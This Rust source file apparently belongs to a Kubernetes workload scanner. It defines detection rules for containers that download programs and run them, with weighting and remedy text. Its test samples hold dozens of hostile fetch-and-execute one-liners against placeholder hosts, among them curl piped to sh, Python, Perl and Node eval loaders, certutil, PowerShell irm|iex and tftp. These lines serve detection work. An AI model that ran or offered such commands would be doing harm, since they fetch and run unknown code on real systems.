//! Programs that are stored, and run after that; and downloads as such.

use super::checksum::is_verified;
use super::fetch::show;
use super::places::is_temporary;
use super::url::{Reach, target};
use super::words::{cluster, operands, subcommand, words};
use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::code;
use crate::detect::findings::Collector;
use crate::detect::flow::{At, Kind, Ran, Reached, fetches, is_downloader};
use crate::normalize::Invocation;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-download-run",
        title: "Downloaded program run",
        message: "downloads a program and runs it",
        meaning: "A file is fetched, made executable and run: what it is depends on the server.",
        false_positives: "Fetching a released tool, better done with an image. Less where a checksum that stands in the script \
                          names the file, or where it is one file of sources that are fetched whole and built.",
        confirm: &[
            Step::Object(
                "The URL and the file that is made executable. A path under /tmp, /dev/shm or a name with \
                 a dot in front speaks for an attack; a checksum in between speaks against it.",
            ),
            Step::Logs(
                "What the program printed: version banners of a known tool, or pool, wallet and connection \
                 messages.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Get a copy of the file, from a pod that still runs or from the URL in a sandbox, and \
                     keep its SHA-256: it tells you what it was and finds it elsewhere.",
            benign: "Put the program into an image. If that is not possible, pin the version in the URL \
                     and verify a checksum that stands in the manifest before chmod +x; that lowers the \
                     points.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1105"],
        references: &[links::IMAGES, links::SUPPLY_CHAIN],
        check: downloaded_programs,
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/a https://dl.example.test/a; gpg --version; sha256sum /etc/hosts; chmod +x /tmp/a; /tmp/a']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o s http://192.0.2.10/s; sh \"$PWD/s\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd; wget http://192.0.2.10/s; sh ~/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'exec 3> /tmp/s; curl http://192.0.2.10/s >&3; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'f() { curl -o \"$1\" http://192.0.2.10/s; }; f /tmp/s; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -P /dev/shm http://192.0.2.10/m; chmod 700 /dev/shm/m; nohup /dev/shm/m &']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  t\" | sha256sum -c && chmod +x t && ./t']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/a http://192.0.2.10/a; tee /tmp/b < /tmp/a >/dev/null; chmod +x /tmp/b; /tmp/b']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s | tee /tmp/q > /dev/null; sh /tmp/q']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/1 https://x.test/1; curl -so /tmp/2 https://x.test/2; cat /tmp/1 /tmp/2 > /tmp/3; /tmp/3']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/a.gz https://x.test/a.gz; gunzip /tmp/a.gz; /tmp/a']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/e https://x.test/e; openssl enc -d -aes-256-cbc -k x -in /tmp/e -out /tmp/d; /tmp/d']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'scp u@192.0.2.10:x /tmp/x; /tmp/x']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd /tmp; tftp -g -r mips 192.0.2.20; ./mips']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/b.tgz | tar xz -C /tmp; cd /tmp/b && ./start.sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; echo ok > y; sha256sum y > s; sha256sum -c s; ./t']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; curl -so t.sum https://x.test/t.sum; sha256sum -c t.sum; ./t']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; gpg --verify other.sig other; ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; gpg --verify t.sig t && ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; echo \"9f86d081884c7d659a2feaa0c55ad015  t\" > s; md5sum -c s && ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /src/b; cd /src/b; ./build.sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /tmp/b; bash /tmp/b/install.sh']}]",
            ),
            Sample::Hit(
                45,
                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /share/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /share}]}]\ncontainers: [{name: a, command: [/x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/x http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /tmp/x']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'eval(get(\"http://192.0.2.10/b\"))']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [ruby, -ropen-uri, -e, 'eval URI.open(\"http://192.0.2.10/b\").read']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [node, -e, 'fetch(\"http://192.0.2.10/b\").then(r=>r.text()).then(eval)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [cmd, /c, 'certutil -urlcache -split -f http://192.0.2.10/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'x() { cat; }; curl -s http://192.0.2.10/s | x > /tmp/h; sh /tmp/h']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [node, -e, 'require(\"https\").get(\"https://x.test/a\",r=>{let d=\"\";r.on(\"data\",c=>d+=c);r.on(\"end\",()=>eval(d))})']}]",
            ),
            Sample::Hit(45, "containers: [{name: a, command: [pwsh, -c, 'irm https://x.test/a.ps1 | iEx']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [powershell, -c, 'Start-BitsTransfer http://192.0.2.10/a.exe C:/a.exe; Start-Process C:/a.exe']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/p.deb http://192.0.2.10/p.deb; dpkg -i /tmp/p.deb']}]",
            ),
            Sample::Hit(45, "containers: [{name: a, command: [rpm, -ivh, 'http://192.0.2.10/p.rpm']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'pip install http://192.0.2.10/p.tar.gz && python -m p']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -qO /dev/shm/.k http://192.0.2.10/k; install -m 755 /dev/shm/.k /usr/local/bin/kw; kw &']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -Lo /tmp/p.deb https://x.test/p.deb; dpkg -i /tmp/p.deb']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [pip, install, --index-url, 'https://pypi.example.test/simple', shop]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -Lo /usr/local/bin/kubectl https://x.test/kubectl; chmod +x /usr/local/bin/kubectl; kubectl version']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'print get(\"http://svc/x\")']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [cmd, /c, 'certutil -hashfile C:\\app\\a.exe & C:\\app\\b.exe']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -so /data/x.csv http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /app/run /data/x.csv']}]",
            ),
            Sample::Miss(
                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /share/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /share}]}]\ncontainers: [{name: a, command: [/app/run, /x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -so /data/a.gz https://x.test/a.gz; gunzip /data/a.gz; /app/import /data/a']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; echo \"deploy $(cat /tmp/v)\" > /tmp/run.sh; sh /tmp/run.sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /src/b; cd /src/b; make test']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'scp /app/run u@backup:/app/run; /app/run']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-downloader",
        title: "Command-line download",
        message: "downloads with a command-line tool",
        meaning: "Alone it says little; together with other findings it shows where the payload comes from.",
        false_positives: "Health checks, web hooks, data feeds.",
        confirm: &[Step::Object(
            "The URL, and what happens to the answer: printed and thrown away is a health check, piped \
                 or stored and run is another finding.",
        )],
        remedy: Remedy {
            exposes: &[],
            attack: "Alone it proves nothing. See which other findings the workload has, and whether the \
                     URL is one of yours.",
            benign: "Nothing to change for a call to a known service. Limit where the pod may connect with \
                     a NetworkPolicy for egress.",
        },
        severity: Severity::None,
        points: 3,
        techniques: &["T1105"],
        references: &[links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, |_, _, invocation| is_downloader(invocation)),
        samples: &[
            Sample::Hit(3, "containers: [{name: a, command: [curl, -sf, 'http://svc/health']}]"),
            Sample::Miss("containers: [{name: a, command: [echo, curl]}]"),
        ],
        ..COMMAND
    },
];

/// Hits for programs that are stored and run.
fn downloaded_programs(facts: &Facts<'_>, found: &mut Collector<'_>) {
    let reached = facts.reach(|_, call| fetches(call), Kind::Program);
    for (number, run) in facts.runs.iter().enumerate() {
        let container = Some(run.container.name.as_str());
        let at_once = |call: &Invocation| {
            code::text(call).is_some_and(code::runs_fetched) || installs(call) && words(call).any(is_odd)
        };
        if let Some((at, _)) = run.invocations().find(|(_, call)| at_once(call)) {
            found.hit(container, run.path(), &run.show(at));
            continue;
        }
        // The heaviest, and of those the first.
        let mut heaviest: Option<(At, At, Weight)> = None;
        for program in reached.ran(number).take(MAX_PROGRAMS) {
            let Some(weight) = weigh(facts, &reached, &program) else { continue };
            if heaviest.is_none_or(|(_, _, known)| known.1 < weight.1) {
                heaviest = Some((program.source, program.at, weight));
            }
        }
        if let Some((source, at, (severity, points))) = heaviest {
            let source = if source.0 == number { at } else { source };
            found.hit_as(severity, points, container, run.path(), &show(facts, source, at));
        }
    }
}

/// What a program weighs that was fetched: less where it was verified, or where it is one of many files that came
/// from a named place and stay together, as sources do that are built.
///
/// Packages of a named place, and tools that are put into `PATH`, are everyday: they do not count.
fn weigh(facts: &Facts<'_>, reached: &Reached<'_>, program: &Ran) -> Option<Weight> {
    let invocation = |(run, at): At| facts.runs.get(run).and_then(|run| run.invocation(at));
    let from_odd = invocation(program.source).is_some_and(|source| words(source).any(is_odd));
    let everyday = program.by_path || invocation(program.at).is_some_and(installs);
    if everyday && !from_odd {
        return None;
    }
    let packed = program.packed && !from_odd && !is_temporary(&program.file);
    Some(if packed || is_verified(facts, reached, program.source) { LESS } else { FULL })
}

/// Whether a word is the URL of a bare address, or of a place where anybody drops things.
fn is_odd(word: &str) -> bool {
    word.contains("://")
        && target(word).is_some_and(|target| matches!(target.reach(), Reach::Drop | Reach::Address))
}

/// Whether an invocation installs packages: their scripts are run.
fn installs(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "dpkg" => words(invocation)
            .any(|word| word == "--install" || cluster(word).is_some_and(|it| it.contains('i'))),
        "rpm" => words(invocation).any(|word| {
            matches!(word, "--install" | "--upgrade")
                || cluster(word).is_some_and(|it| it.contains(['i', 'U']))
        }),
        "apk" => subcommand(invocation, &["add"]),
        "apt" | "apt-get" | "yum" | "dnf" | "microdnf" | "zypper" | "pip" | "pip3" | "gem" | "npm"
        | "yarn" | "pnpm" | "luarocks" | "cpan" | "cpanm" => {
            subcommand(invocation, &["install", "i", "add"])
                || matches!(invocation.program.as_str(), "cpan" | "cpanm")
                    && operands(invocation).next().is_some()
        }
        "npx" | "uvx" | "pipx" | "bunx" => true,
        _ => false,
    }
}

const FULL: Weight = (Severity::High, 45);
const LESS: Weight = (Severity::Medium, 30);
/// Programs of one run that are looked at.
const MAX_PROGRAMS: usize = 64;
